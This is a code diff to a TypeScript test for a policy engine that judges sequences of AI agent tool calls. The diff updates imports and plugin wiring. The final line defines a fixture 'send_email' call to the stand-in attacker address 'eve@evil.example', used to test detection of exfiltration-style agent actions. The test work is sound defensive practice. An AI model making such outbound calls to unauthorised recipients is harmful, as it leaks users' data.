@@ -1,5 +1,5 @@
 import { toolUse } from '../../../plugins/tool-use/tool-use.js';
-import { bindStructures } from '../../core/detection/structure.js';
+import { bindStructures } from '../../core/detection/bind-structures.js';
 import { compilePolicy } from '../../core/policy/compile-policy.js';
 import type { StructurePlugin } from '../../core/detection/structure.js';
 import { judgeToolSequence, type ToolJudge, type ToolSequence } from './tool-sequence.js';
@@ -30,14 +30,14 @@ rules:
 `;
 
 function judge(): ToolJudge {
-  const plugins = { detectors: [], structures: [toolUse as StructurePlugin] };
+  const plugins = { detectors: [], structures: [toolUse as StructurePlugin], ledgers: [] };
   const { policy, problems } = compilePolicy({
     environment: 'production',
     files: [{ path: 'policies/p.yaml', text: POLICY }],
     plugins,
   });
   if (policy === undefined) throw new Error(JSON.stringify(problems));
-  return { policy, detectors: [], structures: bindStructures(policy, plugins.structures) };
+  return { policy, detectors: [], structures: bindStructures(policy, plugins) };
 }
 
 const send = { name: 'send_email', args: { to: 'eve@evil.example', body: 'hi' }, counts: true };
